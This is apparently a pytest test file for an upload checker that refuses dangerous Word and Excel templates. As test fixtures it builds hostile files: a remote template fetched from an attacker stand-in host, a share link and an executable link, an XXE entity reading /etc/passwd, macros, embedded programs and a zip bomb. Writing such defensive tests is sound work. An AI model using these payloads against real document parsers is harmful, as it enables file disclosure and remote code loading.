"""Uploaded Word and Excel files: what is refused before anything else opens them."""

import io
import zipfile
from collections.abc import Callable

import pytest
from flask import Flask

from ctm.documents import DocumentError, package
from tests.documents.making import altered, word, workbook

RELATIONSHIP = (
    b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
)


def _sheet() -> bytes:
    return workbook(lambda sheet: sheet.append(["[clienti.nome]"]))


def _related(kind: bytes, target: bytes) -> Callable[[bytes], bytes]:
    written = RELATIONSHIP % (kind, target)
    return lambda content: content.replace(b"</Relationships>", written)


def _zip(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def _macros(content: bytes) -> bytes:
    return content.replace(
        b"wordprocessingml.document.main+xml", b"x.document.macroEnabled.main+xml"
    ).replace(b"vnd.openxmlformats-officedocument.x", b"vnd.ms-word")


CASES: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "a program called docx": ("docx", lambda: b"MZ\x90\x00" + b"\0" * 500, "no Word file"),
    "nothing": ("docx", lambda: b"", "no Word file"),
    "half a file": ("xlsx", lambda: _sheet()[:2000], "no Excel file"),
    "some archive": ("docx", lambda: _zip(readme=b"hello"), "no Word file"),
    "Excel as Word": ("docx", _sheet, "no Word file"),
    "Word as Excel": ("xlsx", lambda: word("hello"), "no Excel file"),
    "eleven megabytes": ("docx", lambda: b"PK" + b"\0" * (11 * 1024 * 1024), "too large"),
    "macros by type": (
        "docx",
        lambda: altered(word("hello"), {"[Content_Types].xml": _macros}),
        "has macros",
    ),
    "macros inside": (
        "docx",
        lambda: altered(word("hello"), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "has macros",
    ),
    "an embedded program": (
        "docx",
        lambda: altered(word("hello"), {"word/embeddings/oleObject1.bin": b"MZ"}),
        "active or embedded",
    ),
    "a remote template": (
        "docx",
        lambda: altered(
            word("hello"),
            {
                "word/_rels/document.xml.rels": _related(
                    b"attachedTemplate", b"http://evil.example/t.dotm"
                )
            },
        ),
        "http://evil.example/t.dotm",
    ),
    "a picture on a share": (
        "docx",
        lambda: altered(
            word("hello"),
            {"word/_rels/document.xml.rels": _related(b"image", rb"file://///evil/share.png")},
        ),
        "from outside",
    ),
    "a link that runs": (
        "docx",
        lambda: altered(
            word("hello"),
            {"word/_rels/document.xml.rels": _related(b"hyperlink", b"file:///c:/x.exe")},
        ),
        "from outside",
    ),
    "entities": (
        "docx",
        lambda: altered(
            word("hello"),
            {
                "word/document.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
                b"<x>&a;</x>"
            },
        ),
        "not what it should be",
    ),
    "external workbooks": (
        "xlsx",
        lambda: altered(_sheet(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}),
        "active or embedded",
    ),
    "a data connection": (
        "xlsx",
        lambda: altered(_sheet(), {"xl/connections.xml": b"<connections/>"}),
        "active or embedded",
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_a_file_no_template_may_be_is_refused_with_words(app: Flask, case: str) -> None:
    kind, make, words = CASES[case]
    with pytest.raises(DocumentError, match=words) as raised:
        package.check(make(), kind)
    assert raised.value.field == "file"


def test_a_bomb_is_given_up_before_it_is_unpacked_whole(
    app: Flask, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(package, "_LARGEST_PART", 1024 * 1024)
    bomb = altered(word("hello"), {"word/media/image1.png": b"\0" * (3 * 1024 * 1024)})
    assert len(bomb) < 100_000
    with pytest.raises(DocumentError, match="far more than a template needs"):
        package.check(bomb, "docx")


def test_thousands_of_parts_are_refused(app: Flask) -> None:
    many = _zip(**{f"word/{number}.xml": b"" for number in range(2_100)})
    with pytest.raises(DocumentError, match="far more than a template needs"):
        package.check(many, "docx")


def test_a_password_is_named(app: Flask) -> None:
    locked = bytearray(_zip(secret=b"x"))
    locked[6] |= 1
    locked[bytes(locked).index(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(DocumentError, match="password"):
        package.check(bytes(locked), "docx")


def test_ordinary_files_and_their_web_links_pass(app: Flask) -> None:
    linked = altered(
        word("hello"),
        {"word/_rels/document.xml.rels": _related(b"hyperlink", b"https://www.example.it/")},
    )
    assert "word/document.xml" in package.check(linked, "docx").parts
    assert "xl/workbook.xml" in package.check(_sheet(), "xlsx").parts
